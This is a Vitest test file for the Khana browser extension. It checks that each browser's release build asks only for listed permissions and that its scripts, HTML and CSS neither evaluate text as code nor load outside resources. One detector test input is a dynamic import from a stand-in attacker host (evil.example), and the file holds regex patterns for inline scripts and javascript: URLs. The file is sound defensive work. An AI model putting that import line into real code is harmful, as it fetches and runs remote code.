import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BROWSER_NAMES } from '../../../scripts/browsers.ts';
import { buildFolder } from '../../../scripts/build.ts';
import { codeOfText } from './code-of-text.ts';

/** What people agree to when they install Khana. Whoever adds to it changes this list, and the store's words. */
const PERMISSIONS = ['activeTab', 'contextMenus', 'scripting', 'storage'];
const HOSTS = ['http://*/*', 'https://*/*'];

describe.each(BROWSER_NAMES)('what people install in %s', (name) => {
  const folder = buildFolder(name, 'release');
  const files = readdirSync(folder, { recursive: true, encoding: 'utf8' }).sort();
  const read = (file: string) => readFileSync(join(folder, file), 'utf8');
  const manifest = JSON.parse(read('manifest.json')) as Record<string, unknown>;

  it('asks for these permissions and no other', () => {
    expect(manifest.permissions).toEqual(PERMISSIONS);
    expect(manifest.host_permissions).toEqual(HOSTS);
    expect(manifest.content_scripts).toEqual([{ matches: HOSTS, js: ['scout.js'], run_at: 'document_idle' }]);
  });

  it.each([
    'optional_permissions',
    'optional_host_permissions',
    'web_accessible_resources',
    'externally_connectable',
    'content_security_policy',
    'update_url',
  ])('has no %s', (key) => {
    expect(manifest).not.toHaveProperty(key);
  });

  const scripts = files.filter((file) => file.endsWith('.js'));

  it.each(scripts)('%s makes no code of text and loads none from elsewhere', (file) => {
    expect(codeOfText(file, read(file))).toEqual([]);
  });

  it.each(files.filter((file) => file.endsWith('.html')))(
    '%s carries no script of its own and loads only our files',
    (file) => {
      const html = read(file);
      expect(html).not.toMatch(/<script(?![^>]*\ssrc=)|\son\w+=|javascript:/i);
      const loaded = [...html.matchAll(/<(?:script|link|img|iframe)[^>]*\s(?:src|href)="([^"]*)"/g)].map(
        ([, at]) => at,
      );
      expect(loaded.length).toBeGreaterThan(0);
      expect(loaded.filter((address) => !/^\/(?!\/)/.test(address ?? ''))).toEqual([]);
    },
  );

  it.each(files.filter((file) => file.endsWith('.css')))('%s asks nobody for anything', (file) => {
    const named = [...read(file).matchAll(/url\(\s*["']?([^"')]*)|@import\s+["']([^"']*)/g)].map(
      ([, url, sheet]) => url ?? sheet,
    );
    expect(named.filter((address) => !/^(?:\/(?!\/)|data:|#)/.test(address ?? ''))).toEqual([]);
  });
});

describe('codeOfText', () => {
  it.each([
    ['eval("1")', ['eval']],
    ['(0, eval)("1")', ['eval']],
    ['new Function("return 1")', ['Function']],
    ['globalThis.Function("return 1")()', ['Function']],
    ['setTimeout("run()", 5)', ['setTimeout of text']],
    ['import("https://evil.example/x.js")', ['import()']],
    ['importScripts("x.js")', ['importScripts']],
    ['document.write(text)', ['document.write']],
    // Words, and things of the same name.
    ['setTimeout(() => run(), 5); a instanceof Function; const words = "eval(1)"; view.eval();', []],
  ])('%s: %j', (source, found) => {
    expect(codeOfText('a.js', source)).toEqual(found);
  });
});
